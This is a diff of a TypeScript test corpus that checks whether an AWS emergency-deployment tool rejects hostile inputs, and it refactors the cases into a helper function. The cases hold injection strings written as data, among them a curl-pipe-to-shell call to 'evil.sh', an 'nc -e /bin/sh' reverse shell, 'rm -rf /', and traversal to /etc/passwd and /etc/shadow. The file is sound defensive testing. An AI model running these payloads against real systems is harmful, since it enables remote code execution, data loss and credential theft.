@@ -9,9 +9,10 @@ import { createClients } from '../../src/aws/clients.js';
 import { getQueueState } from '../../src/aws/sqs.js';
 import { Input, type InputName } from '../../src/constants.js';
 import { type DeploymentRecord } from '../../src/record.js';
-import { type RawInputs, runbookRecord } from '../support/context.js';
+import { type RawInputs } from '../support/context.js';
 import { mainHarness } from '../support/main-harness.js';
 import { documentedCount } from '../support/reliability-doc.js';
+import { afterCanaryRecord } from '../support/records.js';
 
 const DEP = 'dep-20261129t000000z-4242-1';
 const QUEUE = 'file-processing-queue-production';
@@ -19,26 +20,13 @@ const QUEUE_URL = `https://sqs.ap-northeast-1.amazonaws.com/123456789012/${QUEUE
 
 /** A record as an earlier job hands it on, changed by `edit` (the attack). */
 function record(edit: (r: DeploymentRecord & Record<string, unknown>) => void = () => undefined): string {
-  const r = runbookRecord(DEP);
-  r.fleet = {
-    filters: ['tag:Name=cis-file-processor'],
-    instanceIds: ['i-0123456789abcdef0'],
-    discoveredAt: r.createdAt,
-  };
-  r.queue = {
-    url: QUEUE_URL,
-    name: QUEUE,
-    arn: `arn:aws:sqs:ap-northeast-1:123456789012:${QUEUE}`,
-    visibilityTimeout: 300,
-  };
-  r.artifact = {
+  const r = afterCanaryRecord({
+    deploymentId: DEP,
+    fleet: ['i-0123456789abcdef0'],
+    reason: 'healthy',
     s3Uri: 's3://cis-deploy-artifacts/emergency-deploy/worker.py',
-    sha256: 'a'.repeat(64),
-    uploaded: false,
-  };
-  r.canary = { instanceId: 'i-0123456789abcdef0', verdict: 'go', reason: 'healthy', startedAt: r.createdAt };
-  r.instances['i-0123456789abcdef0'] = { p: 'c', b: 0, s: 'installed', c: 0 };
-  r.commands.push('cmd-1');
+    command: 'cmd-1',
+  });
   edit(r as DeploymentRecord & Record<string, unknown>);
   return JSON.stringify(r);
 }
@@ -66,73 +54,30 @@ const CYR_O = '\u043e';
 const ZWJ = '\u200d';
 const RLO = '\u202e';
 
+/** A case whose raw value is the value of the input it must name (the usual case), in `also`'s mode. */
+function bad(what: string, input: InputName, value: string, also: RawInputs = {}): Case {
+  return { what, input, raw: { ...also, [input]: value } };
+}
+
 // Each case runs in `mode` preflight with queue-name and region set, unless it says otherwise.
 export const CORPUS: Case[] = [
   // shell metacharacters
-  {
-    what: 'command after a semicolon',
-    input: Input.ServiceName,
-    raw: { 'service-name': 'file-processor; reboot' },
-  },
-  {
-    what: 'command substitution',
-    input: Input.ServiceName,
-    raw: { 'service-name': '$(curl -s evil.sh|sh)' },
-  },
-  {
-    what: 'substitution in a path segment',
-    input: Input.WorkerDir,
-    raw: { 'worker-dir': '/opt/file-processor/$(id)' },
-  },
-  { what: 'backticks in a file name', input: Input.TargetFile, raw: { 'target-file': 'worker.py`id`' } },
-  { what: 'a pipe in a queue name', input: Input.QueueName, raw: { 'queue-name': 'q|nc -e /bin/sh x 1' } },
-  {
-    what: 'command after an instance id',
-    input: Input.CanaryInstanceId,
-    raw: { 'canary-instance-id': 'i-0123456789abcdef0;reboot' },
-  },
-  {
-    what: 'substitution in a filter name',
-    input: Input.InstanceFilters,
-    raw: { 'instance-filters': 'tag:$(reboot)=x' },
-  },
-  {
-    what: 'semicolon in a metric namespace',
-    input: Input.MetricNamespace,
-    raw: { 'metric-namespace': 'CISFileSearch/Worker;rm -rf /' },
-  },
-  {
-    what: 'a space and semicolon in the metric name',
-    input: Input.MetricName,
-    raw: { 'metric-name': 'MessageDeleteFailed; x' },
-  },
-  {
-    what: 'substitution in a metric dimension name',
-    input: Input.MetricDimensions,
-    raw: { 'metric-dimensions': 'InstanceId,$(reboot)' },
-  },
-  { what: 'an ampersand in the DLQ name', input: Input.DlqName, raw: { 'dlq-name': 'dlq&&reboot' } },
-  { what: 'a semicolon in the bucket', input: Input.Bucket, raw: { bucket: 'cis-bucket;rm' } },
-  {
-    what: 'substitution in an S3 key',
-    input: Input.Artifact,
-    raw: { artifact: 's3://cis-deploy-artifacts/key$(reboot)' },
-  },
-  {
-    what: 'substitution in the artifact prefix',
-    input: Input.ArtifactPrefix,
-    raw: { 'artifact-prefix': 'emergency-deploy/$(x)/' },
-  },
-  {
-    what: 'a semicolon in the deployment id',
-    input: Input.DeploymentId,
-    raw: { 'deployment-id': 'dep-1;reboot' },
-  },
-  {
-    what: 'a redirect in the dimension name',
-    input: Input.CanaryMetricDimension,
-    raw: { 'canary-metric-dimension': 'InstanceId>/etc/x' },
-  },
+  bad('command after a semicolon', Input.ServiceName, 'file-processor; reboot'),
+  bad('command substitution', Input.ServiceName, '$(curl -s evil.sh|sh)'),
+  bad('substitution in a path segment', Input.WorkerDir, '/opt/file-processor/$(id)'),
+  bad('backticks in a file name', Input.TargetFile, 'worker.py`id`'),
+  bad('a pipe in a queue name', Input.QueueName, 'q|nc -e /bin/sh x 1'),
+  bad('command after an instance id', Input.CanaryInstanceId, 'i-0123456789abcdef0;reboot'),
+  bad('substitution in a filter name', Input.InstanceFilters, 'tag:$(reboot)=x'),
+  bad('semicolon in a metric namespace', Input.MetricNamespace, 'CISFileSearch/Worker;rm -rf /'),
+  bad('a space and semicolon in the metric name', Input.MetricName, 'MessageDeleteFailed; x'),
+  bad('substitution in a metric dimension name', Input.MetricDimensions, 'InstanceId,$(reboot)'),
+  bad('an ampersand in the DLQ name', Input.DlqName, 'dlq&&reboot'),
+  bad('a semicolon in the bucket', Input.Bucket, 'cis-bucket;rm'),
+  bad('substitution in an S3 key', Input.Artifact, 's3://cis-deploy-artifacts/key$(reboot)'),
+  bad('substitution in the artifact prefix', Input.ArtifactPrefix, 'emergency-deploy/$(x)/'),
+  bad('a semicolon in the deployment id', Input.DeploymentId, 'dep-1;reboot'),
+  bad('a redirect in the dimension name', Input.CanaryMetricDimension, 'InstanceId>/etc/x'),
   {
     what: 'a semicolon in the Auto Scaling group',
     input: Input.AsgName,
@@ -148,48 +93,24 @@ export const CORPUS: Case[] = [
     input: Input.LaunchTemplateName,
     raw: { mode: 'rollout', strategy: 'asg', 'asg-name': 'workers', 'launch-template-name': 'lt$(x)' },
   },
-  {
-    what: 'a control character in an error pattern',
-    input: Input.ErrorPatterns,
-    raw: { 'error-patterns': 'ERROR\u0007' },
-  },
+  bad('a control character in an error pattern', Input.ErrorPatterns, 'ERROR\u0007'),
   // newlines
-  {
-    what: 'a newline then a command',
-    input: Input.ServiceName,
-    raw: { 'service-name': 'file-processor\nreboot' },
-  },
-  {
-    what: 'a newline in the file name',
-    input: Input.TargetFile,
-    raw: { 'target-file': 'worker.py\nrm -rf /' },
-  },
-  {
-    what: 'a newline in the directory',
-    input: Input.WorkerDir,
-    raw: { 'worker-dir': '/opt/file-processor\n/etc' },
-  },
+  bad('a newline then a command', Input.ServiceName, 'file-processor\nreboot'),
+  bad('a newline in the file name', Input.TargetFile, 'worker.py\nrm -rf /'),
+  bad('a newline in the directory', Input.WorkerDir, '/opt/file-processor\n/etc'),
   {
     what: 'a newline in the queue URL',
     input: Input.QueueUrl,
     raw: { 'queue-name': '', 'queue-url': `${QUEUE_URL}\nx` },
   },
-  { what: 'two regions on two lines', input: Input.Region, raw: { region: 'ap-northeast-1\nus-east-1' } },
-  { what: 'two numbers on two lines', input: Input.CanaryMinutes, raw: { 'canary-minutes': '5\n0' } },
-  { what: 'a carriage return in the checkpoint', input: Input.Checkpoint, raw: { checkpoint: '10m\r1h' } },
+  bad('two regions on two lines', Input.Region, 'ap-northeast-1\nus-east-1'),
+  bad('two numbers on two lines', Input.CanaryMinutes, '5\n0'),
+  bad('a carriage return in the checkpoint', Input.Checkpoint, '10m\r1h'),
   // path traversal
-  {
-    what: 'parent directory in the worker dir',
-    input: Input.WorkerDir,
-    raw: { 'worker-dir': '/opt/../etc' },
-  },
-  {
-    what: 'trailing parent directory',
-    input: Input.WorkerDir,
-    raw: { 'worker-dir': '/opt/file-processor/..' },
-  },
-  { what: 'a relative worker dir', input: Input.WorkerDir, raw: { 'worker-dir': 'opt/file-processor' } },
-  { what: 'traversal in the file name', input: Input.TargetFile, raw: { 'target-file': '../../etc/passwd' } },
+  bad('parent directory in the worker dir', Input.WorkerDir, '/opt/../etc'),
+  bad('trailing parent directory', Input.WorkerDir, '/opt/file-processor/..'),
+  bad('a relative worker dir', Input.WorkerDir, 'opt/file-processor'),
+  bad('traversal in the file name', Input.TargetFile, '../../etc/passwd'),
   {
     what: 'a workspace artifact outside the workspace',
     input: Input.Artifact,
@@ -200,165 +121,65 @@ export const CORPUS: Case[] = [
     input: Input.Artifact,
     raw: { artifact: '/etc/passwd', 'artifact-bucket': 'cis-deploy-artifacts' },
   },
-  {
-    what: 'traversal in an S3 key',
-    input: Input.Artifact,
-    raw: { artifact: 's3://cis-deploy-artifacts/../secrets/key' },
-  },
-  {
-    what: 'traversal in the artifact prefix',
-    input: Input.ArtifactPrefix,
-    raw: { 'artifact-prefix': '../other/' },
-  },
+  bad('traversal in an S3 key', Input.Artifact, 's3://cis-deploy-artifacts/../secrets/key'),
+  bad('traversal in the artifact prefix', Input.ArtifactPrefix, '../other/'),
   // unicode lookalikes
-  { what: 'a fullwidth mode', input: Input.Mode, raw: { mode: FW('preflight') } },
-  { what: 'a Cyrillic a in the region', input: Input.Region, raw: { region: `${CYR_A}p-northeast-1` } },
-  {
-    what: 'a zero-width joiner in the service',
-    input: Input.ServiceName,
-    raw: { 'service-name': `file${ZWJ}processor` },
-  },
-  {
-    what: 'a right-to-left override in the file name',
-    input: Input.TargetFile,
-    raw: { 'target-file': `worker${RLO}yp.py` },
-  },
-  {
-    what: 'a Cyrillic o in the queue name',
-    input: Input.QueueName,
-    raw: { 'queue-name': `file-processing-queue-producti${CYR_O}n` },
-  },
-  {
-    what: 'a Cyrillic o in the bucket',
-    input: Input.Bucket,
-    raw: { bucket: `cis-filesearch-storage-producti${CYR_O}n` },
-  },
-  {
-    what: 'a no-break space in a health pattern',
-    input: Input.HealthPatterns,
-    raw: { 'health-patterns': 'Successfully\u00a0processed' },
-  },
-  {
-    what: 'a fullwidth f in the instance id',
-    input: Input.CanaryInstanceId,
-    raw: { 'canary-instance-id': 'i-0123456789abcde\uff460' },
-  },
-  { what: 'a fullwidth true', input: Input.DryRun, raw: { 'dry-run': FW('true') } },
-  { what: 'a fullwidth strategy', input: Input.Strategy, raw: { strategy: FW('ssm') } },
-  {
-    what: 'a Cyrillic a in the artifact bucket',
-    input: Input.ArtifactBucket,
-    raw: { 'artifact-bucket': `cis-deploy-${CYR_A}rtifacts` },
-  },
+  bad('a fullwidth mode', Input.Mode, FW('preflight')),
+  bad('a Cyrillic a in the region', Input.Region, `${CYR_A}p-northeast-1`),
+  bad('a zero-width joiner in the service', Input.ServiceName, `file${ZWJ}processor`),
+  bad('a right-to-left override in the file name', Input.TargetFile, `worker${RLO}yp.py`),
+  bad('a Cyrillic o in the queue name', Input.QueueName, `file-processing-queue-producti${CYR_O}n`),
+  bad('a Cyrillic o in the bucket', Input.Bucket, `cis-filesearch-storage-producti${CYR_O}n`),
+  bad('a no-break space in a health pattern', Input.HealthPatterns, 'Successfully\u00a0processed'),
+  bad('a fullwidth f in the instance id', Input.CanaryInstanceId, 'i-0123456789abcde\uff460'),
+  bad('a fullwidth true', Input.DryRun, FW('true')),
+  bad('a fullwidth strategy', Input.Strategy, FW('ssm')),
+  bad('a Cyrillic a in the artifact bucket', Input.ArtifactBucket, `cis-deploy-${CYR_A}rtifacts`),
   // huge values
-  {
-    what: 'a twenty-digit duration',
-    input: Input.CanaryMinutes,
-    raw: { 'canary-minutes': '99999999999999999999' },
-  },
-  {
-    what: 'a 10,000-character service name',
-    input: Input.ServiceName,
-    raw: { 'service-name': 'a'.repeat(10_000) },
-  },
-  {
-    what: '21 health patterns',
-    input: Input.HealthPatterns,
-    raw: { 'health-patterns': Array.from({ length: 21 }, (_, i) => `p${i}`).join('\n') },
-  },
+  bad('a twenty-digit duration', Input.CanaryMinutes, '99999999999999999999'),
+  bad('a 10,000-character service name', Input.ServiceName, 'a'.repeat(10_000)),
+  bad('21 health patterns', Input.HealthPatterns, Array.from({ length: 21 }, (_, i) => `p${i}`).join('\n')),
   // Perl regex syntax that GNU grep -E would run as something else (\d is a literal d there)
-  {
-    what: 'a Perl \\d in a health pattern',
-    input: Input.HealthPatterns,
-    raw: { 'health-patterns': 'Received \\d+ messages' },
-  },
-  {
-    what: 'a lookahead in an error pattern',
-    input: Input.ErrorPatterns,
-    raw: { 'error-patterns': 'ERROR(?!: retrying)' },
-  },
-  {
-    what: 'a 5,000-character error pattern',
-    input: Input.ErrorPatterns,
-    raw: { 'error-patterns': 'E'.repeat(5000) },
-  },
-  {
-    what: '26 instance filters',
-    input: Input.InstanceFilters,
-    raw: { 'instance-filters': Array.from({ length: 26 }, (_, i) => `tag:k${i}=v`).join('\n') },
-  },
-  {
-    what: 'a visibility timeout over 12 hours',
-    input: Input.VisibilityTimeout,
-    raw: { 'visibility-timeout': '43201' },
-  },
-  { what: 'a batch of 5,001', input: Input.BatchSize, raw: { 'batch-size': '5001' } },
-  { what: 'max-errors past any fleet', input: Input.MaxErrors, raw: { 'max-errors': '5001' } },
-  {
-    what: 'a 2,000-character worker dir',
-    input: Input.WorkerDir,
-    raw: { 'worker-dir': `/${'d/'.repeat(1000)}` },
-  },
-  {
-    what: 'a huge files-per-hour floor',
-    input: Input.MinFilesPerHour,
-    raw: { 'min-files-per-hour': '100000001' },
-  },
-  { what: 'a huge 24 h depth', input: Input.MaxDepth24h, raw: { 'max-depth-24h': '1e12' } },
-  { what: 'a lag over two weeks', input: Input.MaxLagSeconds, raw: { 'max-lag-seconds': '1209601' } },
+  bad('a Perl \\d in a health pattern', Input.HealthPatterns, 'Received \\d+ messages'),
+  bad('a lookahead in an error pattern', Input.ErrorPatterns, 'ERROR(?!: retrying)'),
+  bad('a 5,000-character error pattern', Input.ErrorPatterns, 'E'.repeat(5000)),
+  bad(
+    '26 instance filters',
+    Input.InstanceFilters,
+    Array.from({ length: 26 }, (_, i) => `tag:k${i}=v`).join('\n'),
+  ),
+  bad('a visibility timeout over 12 hours', Input.VisibilityTimeout, '43201'),
+  bad('a batch of 5,001', Input.BatchSize, '5001'),
+  bad('max-errors past any fleet', Input.MaxErrors, '5001'),
+  bad('a 2,000-character worker dir', Input.WorkerDir, `/${'d/'.repeat(1000)}`),
+  bad('a huge files-per-hour floor', Input.MinFilesPerHour, '100000001'),
+  bad('a huge 24 h depth', Input.MaxDepth24h, '1e12'),
+  bad('a lag over two weeks', Input.MaxLagSeconds, '1209601'),
   // negative and non-numeric durations
-  { what: 'negative canary minutes', input: Input.CanaryMinutes, raw: { 'canary-minutes': '-5' } },
-  { what: 'zero poll seconds', input: Input.PollSeconds, raw: { 'poll-seconds': '0' } },
-  { what: 'negative pause', input: Input.PauseSeconds, raw: { 'pause-seconds': '-1' } },
-  {
-    what: 'a session shorter than STS allows',
-    input: Input.CanarySessionSeconds,
-    raw: { 'canary-session-seconds': '899' },
-  },
-  {
-    what: 'a session with a unit',
-    input: Input.RolloutSessionSeconds,
-    raw: { 'rollout-session-seconds': '6h' },
-  },
-  {
-    what: 'a topic name instead of its ARN',
-    input: Input.NotifyTopicArn,
-    raw: { 'notify-topic-arn': 'file-processing-client-notifications' },
-  },
-  {
-    what: 'a topic ARN with a command after it',
-    input: Input.NotifyTopicArn,
-    raw: { 'notify-topic-arn': 'arn:aws:sns:ap-northeast-1:123456789012:notices;id' },
-  },
-  {
-    what: 'a topic in another region',
-    input: Input.NotifyTopicArn,
-    raw: { 'notify-topic-arn': 'arn:aws:sns:us-east-1:123456789012:notices' },
-  },
-  { what: 'verify minutes in words', input: Input.VerifyMinutes, raw: { 'verify-minutes': 'ten' } },
-  { what: 'a unit suffix', input: Input.SampleSeconds, raw: { 'sample-seconds': '30s' } },
-  { what: 'a fraction', input: Input.CanaryMinutes, raw: { 'canary-minutes': '1.5' } },
-  { what: 'NaN', input: Input.PollSeconds, raw: { 'poll-seconds': 'NaN' } },
-  { what: 'Infinity', input: Input.CommandTimeoutSeconds, raw: { 'command-timeout-seconds': 'Infinity' } },
-  { what: 'hexadecimal', input: Input.VerifyMinutes, raw: { 'verify-minutes': '0x10' } },
-  { what: 'a leading plus', input: Input.DrainedThreshold, raw: { 'drained-threshold': '+10' } },
-  { what: 'a negative tolerance', input: Input.DlqTolerance, raw: { 'dlq-tolerance': '-3' } },
-  {
-    what: 'a percent over 100',
-    input: Input.MinDepthReductionPercent,
-    raw: { 'min-depth-reduction-percent': '150' },
-  },
-  { what: 'a zero receive ratio', input: Input.MaxReceiveRatio, raw: { 'max-receive-ratio': '0' } },
-  {
-    what: 'a healthy percentage of 101',
-    input: Input.MinHealthyPercentage,
-    raw: { 'min-healthy-percentage': '101' },
-  },
-  {
-    what: 'decreasing refresh checkpoints',
-    input: Input.RefreshCheckpoints,
-    raw: { 'refresh-checkpoints': '50,20' },
-  },
+  bad('negative canary minutes', Input.CanaryMinutes, '-5'),
+  bad('zero poll seconds', Input.PollSeconds, '0'),
+  bad('negative pause', Input.PauseSeconds, '-1'),
+  bad('a session shorter than STS allows', Input.CanarySessionSeconds, '899'),
+  bad('a session with a unit', Input.RolloutSessionSeconds, '6h'),
+  bad('a topic name instead of its ARN', Input.NotifyTopicArn, 'file-processing-client-notifications'),
+  bad(
+    'a topic ARN with a command after it',
+    Input.NotifyTopicArn,
+    'arn:aws:sns:ap-northeast-1:123456789012:notices;id',
+  ),
+  bad('a topic in another region', Input.NotifyTopicArn, 'arn:aws:sns:us-east-1:123456789012:notices'),
+  bad('verify minutes in words', Input.VerifyMinutes, 'ten'),
+  bad('a unit suffix', Input.SampleSeconds, '30s'),
+  bad('a fraction', Input.CanaryMinutes, '1.5'),
+  bad('NaN', Input.PollSeconds, 'NaN'),
+  bad('Infinity', Input.CommandTimeoutSeconds, 'Infinity'),
+  bad('hexadecimal', Input.VerifyMinutes, '0x10'),
+  bad('a leading plus', Input.DrainedThreshold, '+10'),
+  bad('a negative tolerance', Input.DlqTolerance, '-3'),
+  bad('a percent over 100', Input.MinDepthReductionPercent, '150'),
+  bad('a zero receive ratio', Input.MaxReceiveRatio, '0'),
+  bad('a healthy percentage of 101', Input.MinHealthyPercentage, '101'),
+  bad('decreasing refresh checkpoints', Input.RefreshCheckpoints, '50,20'),
   {
     // API_RefreshPreferences: the refresh would end Successful at 50% with half the group unfixed.
     what: 'refresh checkpoints that stop short of 100',
@@ -366,123 +187,81 @@ export const CORPUS: Case[] = [
     raw: { 'refresh-checkpoints': '20,50' },
   },
   // bad regions
-  { what: 'a city, not a region', input: Input.Region, raw: { region: 'tokyo' } },
-  { what: 'an upper-case region', input: Input.Region, raw: { region: 'AP-NORTHEAST-1' } },
-  {
-    what: 'a region that is a host name',
-    input: Input.Region,
-    raw: { region: 'ap-northeast-1.evil.example' },
-  },
-  { what: 'a region with traversal', input: Input.Region, raw: { region: '../us-east-1' } },
+  bad('a city, not a region', Input.Region, 'tokyo'),
+  bad('an upper-case region', Input.Region, 'AP-NORTHEAST-1'),
+  bad('a region that is a host name', Input.Region, 'ap-northeast-1.evil.example'),
+  bad('a region with traversal', Input.Region, '../us-east-1'),
   // malformed s3:// URIs
-  { what: 's3:// alone', input: Input.Artifact, raw: { artifact: 's3://' } },
-  { what: 'a bucket with no key', input: Input.Artifact, raw: { artifact: 's3://cis-deploy-artifacts' } },
-  { what: 'one slash', input: Input.Artifact, raw: { artifact: 's3:/cis-deploy-artifacts/key' } },
-  { what: 'an invalid bucket name', input: Input.Artifact, raw: { artifact: 's3://Bad_Bucket/key' } },
-  {
-    what: 'a space in the key',
-    input: Input.Artifact,
-    raw: { artifact: 's3://cis-deploy-artifacts/key with space' },
-  },
-  {
-    what: 'an empty key segment',
-    input: Input.Artifact,
-    raw: { artifact: 's3://cis-deploy-artifacts//worker.py' },
-  },
-  {
-    what: 'a key that is a folder',
-    input: Input.Artifact,
-    raw: { artifact: 's3://cis-deploy-artifacts/fixes/' },
-  },
-  { what: 'an xn-- bucket', input: Input.Artifact, raw: { artifact: 's3://xn--bucket/key' } },
-  {
-    what: 'a checksum that is not SHA-256',
-    input: Input.ArtifactSha256,
-    raw: { 'artifact-sha256': 'zz'.repeat(32) },
-  },
+  bad('s3:// alone', Input.Artifact, 's3://'),
+  bad('a bucket with no key', Input.Artifact, 's3://cis-deploy-artifacts'),
+  bad('one slash', Input.Artifact, 's3:/cis-deploy-artifacts/key'),
+  bad('an invalid bucket name', Input.Artifact, 's3://Bad_Bucket/key'),
+  bad('a space in the key', Input.Artifact, 's3://cis-deploy-artifacts/key with space'),
+  bad('an empty key segment', Input.Artifact, 's3://cis-deploy-artifacts//worker.py'),
+  bad('a key that is a folder', Input.Artifact, 's3://cis-deploy-artifacts/fixes/'),
+  bad('an xn-- bucket', Input.Artifact, 's3://xn--bucket/key'),
+  bad('a checksum that is not SHA-256', Input.ArtifactSha256, 'zz'.repeat(32)),
   // bad filter syntax
-  { what: 'a filter with no value', input: Input.InstanceFilters, raw: { 'instance-filters': 'tag:Name' } },
-  {
-    what: 'a filter with no name',
-    input: Input.InstanceFilters,
-    raw: { 'instance-filters': '=cis-file-processor' },
-  },
-  { what: 'an empty filter value', input: Input.InstanceFilters, raw: { 'instance-filters': 'tag:Name=' } },
-  {
-    what: 'a filter on state',
-    input: Input.InstanceFilters,
-    raw: { 'instance-filters': 'instance-state-name=stopped' },
-  },
-  {
-    what: 'the same filter twice',
-    input: Input.InstanceFilters,
-    raw: { 'instance-filters': 'tag:Name=a\ntag:Name=b' },
-  },
-  {
-    what: 'no filter at all (every instance)',
-    input: Input.InstanceFilters,
-    raw: { 'instance-filters': 'none' },
-  },
-  {
-    what: 'an empty value in a list',
-    input: Input.InstanceFilters,
-    raw: { 'instance-filters': 'tag:Name=a,,b' },
-  },
+  bad('a filter with no value', Input.InstanceFilters, 'tag:Name'),
+  bad('a filter with no name', Input.InstanceFilters, '=cis-file-processor'),
+  bad('an empty filter value', Input.InstanceFilters, 'tag:Name='),
+  bad('a filter on state', Input.InstanceFilters, 'instance-state-name=stopped'),
+  bad('the same filter twice', Input.InstanceFilters, 'tag:Name=a\ntag:Name=b'),
+  bad('no filter at all (every instance)', Input.InstanceFilters, 'none'),
+  bad('an empty value in a list', Input.InstanceFilters, 'tag:Name=a,,b'),
   // malformed, oversized and foreign records
-  { what: 'record: not JSON', input: Input.Record, raw: { record: '{not json' } },
-  { what: 'record: a JSON array', input: Input.Record, raw: { record: '[]' } },
-  { what: 'record: a JSON string', input: Input.Record, raw: { record: '"emergency-worker-deploy"' } },
-  {
-    what: 'record: another kind',
-    input: Input.Record,
-    raw: { record: '{"kind":"terraform-state","version":1}' },
-  },
-  {
-    what: 'record: an unknown version',
-    input: Input.Record,
-    raw: { record: record((r) => Object.assign(r, { version: 2 })) },
-  },
-  {
-    what: 'record: the version as a string',
-    input: Input.Record,
-    raw: { record: record((r) => Object.assign(r, { version: '1' })) },
-  },
-  {
-    what: 'record: over 1 MB',
-    input: Input.Record,
-    raw: { record: record((r) => Object.assign(r.extra, { padding: 'x'.repeat(1_000_001) })) },
-  },
+  bad('record: not JSON', Input.Record, '{not json'),
+  bad('record: a JSON array', Input.Record, '[]'),
+  bad('record: a JSON string', Input.Record, '"emergency-worker-deploy"'),
+  bad('record: another kind', Input.Record, '{"kind":"terraform-state","version":1}'),
+  bad(
+    'record: an unknown version',
+    Input.Record,
+    record((r) => Object.assign(r, { version: 2 })),
+  ),
+  bad(
+    'record: the version as a string',
+    Input.Record,
+    record((r) => Object.assign(r, { version: '1' })),
+  ),
+  bad(
+    'record: over 1 MB',
+    Input.Record,
+    record((r) => Object.assign(r.extra, { padding: 'x'.repeat(1_000_001) })),
+  ),
   {
     what: 'record: another deployment',
     input: Input.Record,
     raw: { record: record(), 'deployment-id': 'dep-someone-else-1' },
   },
   { what: 'record: another region', input: Input.Record, raw: { record: record(), region: 'us-east-1' } },
-  {
-    what: 'record: a shell command as an instance id',
-    input: Input.Record,
-    raw: { record: record((r) => (r.instances['i-1;reboot'] = { p: 'r', b: 1, s: 'sent', c: -1 })) },
-  },
-  {
-    what: 'record: substitution in the fleet',
-    input: Input.Record,
-    raw: { record: record((r) => r.fleet?.instanceIds.push('$(reboot)')) },
-  },
-  {
-    what: 'record: traversal as the deployment id',
-    input: Input.Record,
-    raw: { record: record((r) => (r.deploymentId = '../../etc')) },
-  },
-  {
-    what: 'record: a shell command as the service, for rollback',
-    input: Input.Record,
-    raw: { mode: 'rollback', record: record((r) => (r.target.serviceName = 'x; reboot')) },
-  },
-  {
-    what: 'record: a backup path outside the worker dir, for rollback',
-    input: Input.Record,
-    raw: { mode: 'rollback', record: record((r) => (r.target.backupPath = '/etc/shadow')) },
-  },
+  bad(
+    'record: a shell command as an instance id',
+    Input.Record,
+    record((r) => (r.instances['i-1;reboot'] = { p: 'r', b: 1, s: 'sent', c: -1 })),
+  ),
+  bad(
+    'record: substitution in the fleet',
+    Input.Record,
+    record((r) => r.fleet?.instanceIds.push('$(reboot)')),
+  ),
+  bad(
+    'record: traversal as the deployment id',
+    Input.Record,
+    record((r) => (r.deploymentId = '../../etc')),
+  ),
+  bad(
+    'record: a shell command as the service, for rollback',
+    Input.Record,
+    record((r) => (r.target.serviceName = 'x; reboot')),
+    { mode: 'rollback' },
+  ),
+  bad(
+    'record: a backup path outside the worker dir, for rollback',
+    Input.Record,
+    record((r) => (r.target.backupPath = '/etc/shadow')),
+    { mode: 'rollback' },
+  ),
   {
     what: 'record: a canary id that is a command, for an asg rollout',
     input: Input.Record,
@@ -494,51 +273,41 @@ export const CORPUS: Case[] = [
       record: record((r) => r.canary && (r.canary.instanceId = 'i-0; reboot')),
     },
   },
-  {
-    what: 'record: a checksum that is a command, for rollout',
-    input: Input.Record,
-    raw: { mode: 'rollout', record: record((r) => r.artifact && (r.artifact.sha256 = "a'; reboot; '")) },
-  },
-  {
-    what: 'record: an artifact URI with substitution, for rollout',
-    input: Input.Record,
-    raw: { mode: 'rollout', record: record((r) => r.artifact && (r.artifact.s3Uri = 's3://b/$(reboot)')) },
-  },
-  {
-    what: 'record: a queue URL that is not one, for rollback',
-    input: Input.Record,
-    raw: { mode: 'rollback', record: record((r) => r.queue && (r.queue.url = 'file:///etc/passwd')) },
-  },
-  {
-    what: 'record: a launch template id that is not one, for rollback',
-    input: Input.Record,
-    raw: {
-      mode: 'rollback',
-      record: record(
-        (r) =>
-          (r.settings.launchTemplate = { id: 'lt-1 --x', name: 'lt', previousDefault: 1, newVersion: 2 }),
-      ),
-    },
-  },
-  {
-    what: 'record: a refresh of another group name that is not one, for rollback',
-    input: Input.Record,
-    raw: {
-      mode: 'rollback',
-      record: record((r) => (r.settings.refresh = { id: 'r-1', asgName: 'a b;c', status: 'InProgress' })),
-    },
-  },
+  bad(
+    'record: a checksum that is a command, for rollout',
+    Input.Record,
+    record((r) => r.artifact && (r.artifact.sha256 = "a'; reboot; '")),
+    { mode: 'rollout' },
+  ),
+  bad(
+    'record: an artifact URI with substitution, for rollout',
+    Input.Record,
+    record((r) => r.artifact && (r.artifact.s3Uri = 's3://b/$(reboot)')),
+    { mode: 'rollout' },
+  ),
+  bad(
+    'record: a queue URL that is not one, for rollback',
+    Input.Record,
+    record((r) => r.queue && (r.queue.url = 'file:///etc/passwd')),
+    { mode: 'rollback' },
+  ),
+  bad(
+    'record: a launch template id that is not one, for rollback',
+    Input.Record,
+    record(
+      (r) => (r.settings.launchTemplate = { id: 'lt-1 --x', name: 'lt', previousDefault: 1, newVersion: 2 }),
+    ),
+    { mode: 'rollback' },
+  ),
+  bad(
+    'record: a refresh of another group name that is not one, for rollback',
+    Input.Record,
+    record((r) => (r.settings.refresh = { id: 'r-1', asgName: 'a b;c', status: 'InProgress' })),
+    { mode: 'rollback' },
+  ),
   // record-file: any path the runner can read
-  {
-    what: 'record-file: a file that does not exist',
-    input: Input.RecordFile,
-    raw: { 'record-file': '/nonexistent/record.json' },
-  },
-  {
-    what: 'record-file: a newline in the path',
-    input: Input.RecordFile,
-    raw: { 'record-file': '/tmp/record.json\n/etc/passwd' },
-  },
+  bad('record-file: a file that does not exist', Input.RecordFile, '/nonexistent/record.json'),
+  bad('record-file: a newline in the path', Input.RecordFile, '/tmp/record.json\n/etc/passwd'),
   {
     what: 'record-file and record both',
     input: Input.RecordFile,
@@ -550,11 +319,12 @@ export const CORPUS: Case[] = [
     raw: { 'record-file': file(`${SECRET}\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\n`) },
     secret: SECRET.slice(0, 8),
   },
-  {
-    what: 'record-file: a forged record, for rollback',
-    input: Input.RecordFile,
-    raw: { mode: 'rollback', 'record-file': file(record((r) => (r.target.workerDir = '/etc'))) },
-  },
+  bad(
+    'record-file: a forged record, for rollback',
+    Input.RecordFile,
+    file(record((r) => (r.target.workerDir = '/etc'))),
+    { mode: 'rollback' },
+  ),
   // the record's target against the inputs, and inputs each mode requires
   {
     what: 'canary without the record',
@@ -578,42 +348,26 @@ export const CORPUS: Case[] = [
     input: Input.ArtifactBucket,
     raw: { artifact: 'build/worker.py' },
   },
-  { what: 'both queue name and URL', input: Input.QueueUrl, raw: { 'queue-url': QUEUE_URL } },
+  bad('both queue name and URL', Input.QueueUrl, QUEUE_URL),
   {
     what: 'asg without a group',
     input: Input.AsgName,
     raw: { mode: 'rollout', strategy: 'asg', 'launch-template-name': 'lt-workers' },
   },
-  { what: 'no mode', input: Input.Mode, raw: { mode: '' } },
-  { what: 'an unknown checkpoint', input: Input.Checkpoint, raw: { checkpoint: '2h' } },
-  { what: 'yes for a boolean', input: Input.SsmCheck, raw: { 'ssm-check': 'yes' } },
-  { what: '1 for a boolean', input: Input.AllowInconclusive, raw: { 'allow-inconclusive': '1' } },
